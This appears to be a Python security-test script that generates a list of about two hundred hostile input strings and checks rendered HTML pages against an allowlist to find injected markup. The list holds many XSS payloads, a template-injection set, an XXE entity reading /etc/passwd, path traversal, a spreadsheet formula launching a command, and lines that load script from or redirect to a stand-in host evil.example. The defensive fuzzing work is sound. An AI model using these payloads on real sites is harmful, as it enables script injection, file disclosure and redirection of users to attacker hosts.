"""Two hundred hostile strings, and the search for any that got through.

hostile.py strings FILE        writes the strings as JSON
hostile.py search DIRECTORY    parses every hostile-*.html there and names what does not belong

The search knows the page's own vocabulary: tags, attributes, and which values an attribute may have.
Whatever else a parser finds was injected.
"""
import html.parser
import json
import pathlib
import re
import sys

SEEDS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", " autofocus onfocus=alert(1) x=",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</a><a href=javascript:alert(1)>x</a>", "--><script>alert(1)</script>", "<!--", "<!-- -->", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<!doctype html><script>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><button>x</button></form>", "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/x.swf>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<frameset onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    "//evil.example/x", "\\\\evil.example\\x", "https:evil.example", "https://", "https:///evil.example", "http://@evil.example",
    "https://good.example@evil.example/", "https://evil.example/\" onclick=\"alert(1)", "https://evil.example/' onclick='alert(1)",
    "https://evil.example/><script>alert(1)</script>", "https://evil.example/\nX: y", "https://\u202Eelpmaxe.live",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{{x}}}",
    "{{#x}}{{/x}}", "[[${7*7}]]", "\ufeff<script>alert(1)</script>", "\u0000<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<script\u2028>alert(1)</script>", "<script\x0b>alert(1)</script>", "<script\x0c>alert(1)</script>", "<script\r\n>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203a", "\u202e<script>", "\u2066<b>\u2069", "\u200b<i>\u200b",
    "\U000E0041\U000E0042", "\u0338", "a\u0301\u0301\u0301\u0301", "\U0001F534\u200d\U0001F525", "\n\n\n", "\t\t", "   ", "\r\n\r\nHTTP/1.1 200 OK",
    "level=error msg=\"forged\"", "<mark>x</mark>", "<b>x</b>", "<time datetime=1>x</time>", "id=\"fresh\"", "<div id=fresh>", "<div id=state>",
    "<a id=main name=main>", "<form id=try>", "constructor", "__proto__", "toString", "hasOwnProperty", "null", "undefined", "NaN",
    "<<script>script>alert(1)<</script>/script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script", "<", ">", "\"", "'", "&", "`", "/>",
    "<a", "<a href=\"", "<a href='", "</", "</p>", "</main></body></html>", "</div></div></div></div>", "<p", "<li>", "</li></ul>", "</details>",
    "</summary>", "<summary>", "</dd></dl>", "</code></pre>", "</article>", "</button>", "<button formaction=javascript:alert(1)>x",
    "<input type=hidden name=x value=y>", "<isindex action=javascript:alert(1)>", "<table background=javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=width:expression(alert(1))>", "expression(alert(1))", "@import '//evil.example';",
    "<x onclick=alert(1)>x", "<x/onclick=alert(1)>x", "<x\nonclick=alert(1)>x", "<x onclick\n=alert(1)>x", "<a xlink:href=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><script>alert(1)</script>", "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>", "<script src=//evil.example/x.js></script>", "<script nonce=x>alert(1)</script>",
    "<link rel=import href=//evil.example>", "<link rel=prefetch href=//evil.example>", "<portal src=//evil.example>", "<dialog open>x</dialog>",
    "<audio src=x onerror=alert(1)>", "<img srcset=x onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<img/src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>", "<IMG SRC=X ONERROR=ALERT(1)>", "<ImG sRc=x OnErRoR=alert(1)>", "<\x00img src=x onerror=alert(1)>",
    "'-alert(1)-'", "\";alert(1)//", "';alert(1)//", "*/alert(1)/*", "\\\";alert(1)//", "</script\x20>", "</script/>", "<!--><script>alert(1)</script>",
    "<!--!><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "=1+1", "@SUM(1)", "+cmd|'/c calc'!A0", "-2+3",
    "../../../../etc/passwd", "inc-1\" onclick=\"x", "inc-0", "A" * 5000, "<" * 3000, "&" * 3000, "\u202e" * 50, "<a href=" * 200, "\ud7ff\ue000\uffff",
]

TAGS = set("""html head meta title link script body a header nav p main div h1 h2 h3 span time ul ol li b strong em article
button section details summary pre code mark dl dt dd figure figcaption blockquote footer form label textarea""".split())
CLASSES = re.compile(r"[a-z0-9 -]*")
# What an attribute's value may be. Values that hold foreign text as text are listed as free.
VALUES = {
    "charset": r"utf-8", "name": r"viewport|color-scheme|text", "content": r"width=device-width, initial-scale=1|light dark",
    "lang": r"en", "rel": r"icon|stylesheet|noreferrer noopener", "type": r"image/svg\+xml|module|submit|button",
    "src": r"/static/page\.js\?v=[0-9a-f]{16}", "class": r"[a-z0-9 -]*", "role": r"status", "tabindex": r"-1", "for": r"pasted",
    "href": r"/|/#try|#[a-z]+|/static/(icon\.svg|page\.css)\?v=[0-9a-f]{16}|/incidents/inc-\d+|/metrics|/api/v1/[a-z0-9/.?=-]*|https?://[^/@].*",
    "datetime": r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", "aria-label": r"[A-Za-z ]+", "aria-labelledby": r"[a-z-]+", "aria-hidden": r"true",
    "method": r"post", "action": r"/preview", "rows": r"5", "required": r"", "disabled": r"", "spellcheck": r"false", "autocomplete": r"off",
    "placeholder": r"users cannot log in since noon", "id": None,
}


class Search(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.inside = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"tag <{tag}>")
        if tag == "script" and self.inside.count("script"):
            self.found.append("nested script")
        for name, value in attrs:
            if name not in VALUES:
                self.found.append(f"attribute {name} on <{tag}>")
            elif VALUES[name] is not None and not re.fullmatch(VALUES[name], value or "", re.DOTALL):
                self.found.append(f"value {name}={value!r} on <{tag}>")
            elif name == "href" and tag != "a" and not value.startswith("/static/"):
                self.found.append(f"href {value!r} on <{tag}>")
        self.inside.append(tag)

    def handle_endtag(self, tag):
        if tag in self.inside:
            while self.inside and self.inside.pop() != tag:
                pass
        elif tag not in TAGS:
            self.found.append(f"end tag </{tag}>")

    def handle_data(self, data):
        if self.inside and self.inside[-1] == "script" and data:
            self.found.append(f"text in a script: {data[:40]!r}")
        if any(ord(c) < 32 and c not in "\n\t" or "\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069" for c in data):
            self.found.append(f"unseen character in {data[:40]!r}")

    def handle_comment(self, data):
        self.found.append(f"comment {data[:40]!r}")

    def handle_pi(self, data):
        self.found.append(f"processing instruction {data[:40]!r}")

    def unknown_decl(self, data):
        self.found.append(f"declaration {data[:40]!r}")

    def handle_decl(self, decl):
        if decl != "doctype html":
            self.found.append(f"declaration {decl[:40]!r}")


def search_text(text):
    """What does not belong in this page; also a structure that differs from the harmless one."""
    search = Search()
    search.feed(text)
    search.close()
    return search.found


def shape(text):
    """The sequence of tags, without links that may be refused, marks, and notes about what was cut."""
    tags = []

    class Shape(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            if not any(name == "rel" and value == "noreferrer noopener" for name, value in attrs):
                tags.append(tag)

    parser = Shape()
    parser.feed(text)
    return [tag for tag in tags if tag not in ("mark", "em")]


def main():
    if sys.argv[1] == "strings":
        pathlib.Path(sys.argv[2]).write_text(json.dumps(SEEDS))
        return 0
    pages = sorted(pathlib.Path(sys.argv[2]).glob("hostile-*.html"))
    bad = 0
    for page in pages:
        found = search_text(page.read_text(encoding="utf-8"))
        if found:
            bad += 1
            print(page.name, found[:5])
    print(f"{len(pages)} pages of {len(SEEDS)} strings, {bad} with something that does not belong")
    return 1 if bad or len(pages) < 4 * len(SEEDS) else 0


if __name__ == "__main__":
    sys.exit(main())
